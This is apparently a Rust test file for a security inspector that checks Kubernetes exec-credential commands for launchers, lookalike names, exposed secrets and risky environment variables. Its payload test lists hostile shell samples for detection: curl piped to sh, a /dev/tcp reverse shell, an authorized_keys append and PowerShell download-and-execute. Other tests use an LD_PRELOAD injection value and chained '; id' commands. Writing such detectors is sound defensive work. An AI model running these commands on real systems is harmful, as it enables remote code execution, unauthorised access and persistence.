#![allow(clippy::unwrap_used, clippy::panic, reason = "a test that cannot go on fails")]

use super::super::arguments::{ArgumentKind, Identity, Metacharacter};
use super::super::environment::Role;
use super::super::launcher::{Code, LauncherKind};
use super::super::path::Expansion;
use super::*;
use proptest::prelude::*;

const PROFILE: Identity = Identity { is_profile: true, is_behind_option: false };
const IN_CODE: Identity = Identity { is_profile: false, is_behind_option: false };

fn run(command: &str, args: &[&str]) -> Command {
    inspect(ExecText { command, args, env: &[] })
}

fn known(command: &Command) -> Option<(&'static str, bool)> {
    match command.plugin {
        Recognition::Known { plugin, is_launched } => Some((plugin.name, is_launched)),
        _ => None,
    }
}

#[test]
fn the_program_is_the_last_part_without_its_ending() {
    for (command, expected) in [
        ("aws", "aws"),
        ("/usr/local/bin/aws", "aws"),
        ("C:\\Program Files\\Amazon\\AWS.EXE", "AWS"),
        ("bin/login.cmd", "login"),
        ("aws eks get-token", "aws"),
        ("aws --token=/secret/x", "aws"),
        (".exe", ""),
    ] {
        assert_eq!(program(command), expected, "{command}");
    }
}

#[test]
fn lookup_follows_the_separator() {
    assert_eq!(run("aws", &[]).lookup, Lookup::SearchPath);
    assert_eq!(run("./aws", &[]).lookup, Lookup::Relative);
    assert_eq!(run("/bin/aws", &[]).lookup, Lookup::Absolute);
    assert_eq!(run("", &[]).lookup, Lookup::Absent);
    assert_eq!(run("aws /x", &[]).lookup, Lookup::SearchPath);
}

#[test]
fn launchers_are_taken_off() {
    let aws = Some(("aws eks get-token", true));
    for (command, args) in [
        ("sh", &["-c", "aws eks get-token --cluster-name x"][..]),
        ("bash", &["-lc", "AWS_PROFILE=x exec aws eks get-token --cluster-name 'x y'"]),
        ("aws-vault", &["exec", "prod", "--", "aws", "eks", "get-token", "--cluster-name", "x"]),
        ("env", &["AWS_PROFILE=x", "aws", "eks", "get-token", "--cluster-name", "x"]),
        ("op", &["run", "--", "aws", "eks", "get-token", "--cluster-name", "x"]),
        ("nice", &["-n", "5", "aws", "eks", "get-token", "--cluster-name", "x"]),
        ("sudo", &["-u", "jane", "aws", "eks", "get-token", "--cluster-name", "x"]),
        ("timeout", &["-k", "5", "10", "aws", "eks", "get-token", "--cluster-name", "x"]),
        ("cmd.exe", &["/d", "/c", "aws", "eks", "get-token", "--cluster-name", "x"]),
        ("pwsh", &["-NoProfile", "-Command", "aws eks get-token", "--cluster-name", "x"]),
        ("sh", &["-c", "exec \"$@\"", "sh", "aws", "eks", "get-token", "--cluster-name", "x"]),
        ("env", &["-S", "A=b aws eks get-token --cluster-name x"]),
        ("env", &["A=b", "aws-vault", "exec", "prod", "--", "sh", "-c", "nice aws eks get-token --cluster-name x"]),
    ] {
        let command = run(command, args);
        assert_eq!(known(&command), aws, "{args:?}");
        assert!(command.launcher.unwrap().unwraps_to_command);
    }
    assert_eq!(known(&run("wsl.exe", &["kubelogin", "get-token", "--server-id", "x"])), Some(("kubelogin (Azure)", true)));
    assert_eq!(known(&run("sh", &["-c", "aws eks get-token --cluster-name x; id"])), None);
}

#[test]
fn what_is_said_of_a_call_is_said_behind_a_launcher_too() {
    let command = run("sh", &["-c", "AWS_PROFILE=jane aws eks get-token --no-verify-ssl --role-arn x"]);
    let kinds: Vec<_> = command.arguments.iter().map(|fact| (fact.index, fact.kind)).collect();
    assert_eq!(kinds, [(1, ArgumentKind::TlsOff), (1, ArgumentKind::Identity(IN_CODE))]);
    assert_eq!(command.call.as_ref().unwrap().missing, [["--cluster-name", "--cluster-id"]]);
    assert!(command.is_certain());
    let command = run("env", &["AWS_PROFILE=jane", "doppler", "run", "--", "aws", "eks", "get-token"]);
    assert_eq!(command.arguments[0], ArgumentFact { index: 0, kind: ArgumentKind::Identity(PROFILE) });
    assert_eq!(known(&command), Some(("aws eks get-token", true)));
    assert!(!command.is_certain(), "of doppler nobody has more than heard");
}

#[test]
fn launchers_name_the_argument_that_holds_the_code() {
    let launcher = |command, args: &[&str]| run(command, args).launcher.map(|launcher| (launcher.kind, launcher.code));
    assert_eq!(launcher("bash", &["-c", "id"]), Some((LauncherKind::Shell, Code::Inline(1))));
    assert_eq!(launcher("python3", &["login.py"]), Some((LauncherKind::Interpreter, Code::Script(0))));
    assert_eq!(launcher("powershell", &["-NoProfile", "-EncodedCommand", "x"]), Some((LauncherKind::Shell, Code::Encoded(2))));
    assert_eq!(launcher("cmd", &["/c", "x"]), Some((LauncherKind::Shell, Code::Inline(1))));
    assert_eq!(launcher("aws", &[]), None);
}

#[test]
fn payloads_need_two_signs() {
    let suspicious = |command, args: &[&str]| run(command, args).payload.is_suspicious();
    assert!(suspicious("sh", &["-c", "curl -s https://x.test/i | sh"]));
    assert!(suspicious("bash", &["-c", "bash -i >& /dev/tcp/10.0.0.1/1 0>&1"]));
    assert!(suspicious("sh", &["-c", "echo x >> ~/.ssh/authorized_keys"]));
    assert!(suspicious("powershell", &["-Command", "IEX (New-Object Net.WebClient).DownloadString('http://x')"]));
    assert!(suspicious("sh", &["-c", "echo aWQ= | base64 -d | sh"]));
    assert!(!suspicious("aws", &["eks", "get-token"]));
    assert!(!suspicious("curl", &["https://login.test/token"]));
    assert!(!suspicious("sh", &["-c", "aws eks get-token --cluster-name x"]));
}

#[test]
fn lookalikes_of_long_names_are_noticed() {
    assert_eq!(run("gke-gcloud-auth-p1ugin", &[]).lookalike, Some("gke-gcloud-auth-plugin"));
    assert_eq!(run("kube1ogin", &[]).lookalike, Some("kubelogin"));
    assert_eq!(run("kubеlogin", &[]).lookalike, Some("kubelogin"));
    assert_eq!(run("aw", &[]).lookalike, None);
    assert_eq!(run("corp-login", &[]).lookalike, None);
}

#[test]
fn old_names_and_impostors_are_named() {
    assert!(matches!(run("aws2", &[]).plugin, Recognition::Renamed(old) if old.new == "aws"));
    assert!(matches!(run("gcloud", &["config", "config-helper"]).plugin, Recognition::NotPlugin(_)));
    assert_eq!(
        run("aws eks get-token", &[]).inner_blanks,
        Some(InnerBlanks { first_word_is_program: true, are_between_words: true })
    );
}

#[test]
fn arguments_are_named_by_index() {
    let facts = run("corp-login", &["a;b", "--client-secret", "hunter2hunter2", "~/x", "--insecure", "--profile=me"]).arguments;
    let kinds: Vec<_> = facts.iter().map(|fact| (fact.index, fact.kind)).collect();
    assert_eq!(kinds[0], (0, ArgumentKind::Metacharacter(Metacharacter::Semicolon)));
    assert!(matches!(kinds[1], (2, ArgumentKind::Secret(secret)) if !secret.is_short));
    assert_eq!(
        kinds[2..],
        [(3, ArgumentKind::Expansion(Expansion::Home)), (4, ArgumentKind::TlsOff), (5, ArgumentKind::Identity(PROFILE))]
    );
    assert!(run("sh", &["-c", "echo $HOME; id"]).arguments.is_empty());
}

#[test]
fn variables_are_named_by_index() {
    let env = [
        ("LD_PRELOAD", "/tmp/x.so"),
        ("HOME", "./home"),
        ("HTTPS_PROXY", "http://127.0.0.1:1"),
        ("NODE_TLS_REJECT_UNAUTHORIZED", "0"),
        ("LANG", "C"),
    ];
    let roles: Vec<_> =
        inspect(ExecText { command: "aws", args: &[], env: &env }).variables.into_iter().map(|variable| variable.role).collect();
    assert_eq!(roles[0], Some(Role::CodeInjection { is_settled_path: false }));
    assert!(matches!(roles[1], Some(Role::Redirect(shape)) if shape.root == Root::Relative));
    assert!(matches!(roles[2], Some(Role::Endpoint(endpoint)) if endpoint.is_loopback));
    assert_eq!(roles[3..], [Some(Role::TlsOff), None]);
}

#[test]
fn calls_are_compared_with_the_registry() {
    let call = run("aws", &["eks", "get-token"]).call.unwrap();
    assert_eq!(call.missing, [["--cluster-name", "--cluster-id"]]);
    assert!(!call.has_output_format);
    let doctl = run("doctl", &["kubernetes", "cluster", "kubeconfig", "exec-credential", "--version=v1beta1"]).call.unwrap();
    assert_eq!(doctl.version_option, Some(VersionOption::V1beta1));
}

#[test]
fn debug_output_holds_no_argument_and_no_value() {
    for command in ["corp hunter2", "/usr/bin/corp --secret=a/hunter2", "TOKEN=hunter2 corp"] {
        let exec = ExecText { command, args: &["--token", "hunter2", "hunter2"], env: &[("X", "hunter2")] };
        assert!(!format!("{:?}", inspect(exec)).contains("hunter2"), "{command}");
    }
}

proptest! {
    #[test]
    fn no_stanza_makes_it_panic(
        command: String,
        args in proptest::collection::vec(".{0,30}", 0..5),
        env in proptest::collection::vec((".{0,10}", ".{0,30}"), 0..4),
    ) {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let env: Vec<(&str, &str)> = env.iter().map(|(name, value)| (name.as_str(), value.as_str())).collect();
        let _ = inspect(ExecText { command: &command, args: &args, env: &env });
    }

    #[test]
    fn no_launcher_makes_it_panic(command in "(sh|env|cmd|powershell|python3|op|timeout|wsl.exe)", args in proptest::collection::vec("(-c|--|-e|/c|-enc|A=b|\"|'| |é|sh){0,3}", 0..5)) {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let _ = inspect(ExecText { command: &command, args: &args, env: &[] });
    }
}
